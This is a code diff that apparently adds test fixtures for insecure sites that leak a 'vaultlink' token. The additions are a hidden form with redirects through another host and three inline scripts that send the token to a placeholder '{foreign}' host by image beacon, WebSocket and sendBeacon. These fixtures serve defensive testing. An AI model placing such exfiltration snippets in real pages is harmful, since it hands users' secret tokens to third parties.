@@ -15,6 +15,20 @@ import type { Mistake } from '../site-parts.ts';
 const redirect = (to: string) => () =>
   new Response(null, { status: 302, headers: { location: to } });
 
+/** A form that gives the token to its own server. */
+const FORM = `<form action="/on"><input type="hidden" name="service_endlink_token" data-vaultlink-fill="token"><input type="hidden" name="host" value="{otherHost}"><button id="start">Send</button></form>`;
+
+/** Leads to a page of another host, with the parameters of the request. */
+const leadOver = (request: Request) => {
+  const { host, search, searchParams } = new URL(request.url);
+  return redirect(`http://${searchParams.get('host') ?? ''}/over${search}&back=${host}`)();
+};
+
+const leadBack = (request: Request) => {
+  const { search, searchParams } = new URL(request.url);
+  return redirect(`http://${searchParams.get('back') ?? ''}/end${search}`)();
+};
+
 /** A right site that reads the token under another name. */
 const RENAMED = landing(tag('data-token-param="t"'));
 
@@ -113,6 +127,37 @@ export const ADDRESS_MISTAKES: readonly Mistake[] = [
     broken: 'kept',
     pages: landing(tag('data-carry="{otherHost}"'), '<a id="start" href="{other}/hop">Start</a>'),
     files: { '/hop': redirect('/end') },
+  },
+  {
+    name: 'leads over another host that is not named',
+    causeId: 'token-over-host',
+    broken: 'private',
+    pages: landing(tag(), FORM),
+    files: { '/on': leadOver, '/over': leadBack },
+  },
+  {
+    name: 'sends the token to an analytics tool as Base64',
+    causeId: 'third-party',
+    broken: 'private',
+    pages: landing(
+      `${tag()}<script>new Image().src='{foreign}/collect?data='+btoa('{"page":"/?token='+vaultlink.token()+'"}')</script>`,
+    ),
+  },
+  {
+    name: 'sends the token over a socket',
+    causeId: 'third-party',
+    broken: 'private',
+    pages: landing(
+      `${tag()}<script>new WebSocket('{foreign}/chat?page='+vaultlink.token())</script>`,
+    ),
+  },
+  {
+    name: 'sends the token to an analytics tool while the page is left',
+    causeId: 'third-party',
+    broken: 'private',
+    pages: landing(
+      `${tag()}<script>addEventListener('pagehide',()=>navigator.sendBeacon('{foreign}/collect',vaultlink.token()))</script>`,
+    ),
   },
   {
     name: 'opens its last page in another tab by a script',
